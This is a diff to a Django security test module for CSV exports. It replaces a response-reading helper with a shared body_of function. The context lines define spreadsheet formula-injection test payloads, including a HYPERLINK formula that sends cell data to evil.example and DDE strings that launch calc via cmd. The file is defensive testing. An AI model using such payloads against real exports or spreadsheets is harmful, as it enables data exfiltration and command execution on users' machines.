@@ -11,7 +11,7 @@ import csv
 import io
 
 import pytest
-from django.http import HttpResponse, StreamingHttpResponse
+from django.http import HttpResponseBase
 from django.test import Client
 from django.urls import reverse
 
@@ -22,6 +22,7 @@ from apps.core.registry import all_exports
 from apps.discussion.models import Comment
 from apps.proposals.models import Proposal
 from apps.sortition.models import Draw
+from tests.conftest import body_of
 from tests.security.world import World
 
 pytestmark = pytest.mark.django_db
@@ -30,11 +31,8 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'
 PAYLOADS = (FORMULA, "+33 6 12 34", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", "\rCR")
 
 
-def _cells(response: HttpResponse | StreamingHttpResponse) -> list[str]:
-    if isinstance(response, StreamingHttpResponse):
-        text = b"".join(response.streaming_content).decode()  # type: ignore[arg-type]
-    else:
-        text = response.content.decode()
+def _cells(response: HttpResponseBase) -> list[str]:
+    text = body_of(response).decode()
     return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
 
 
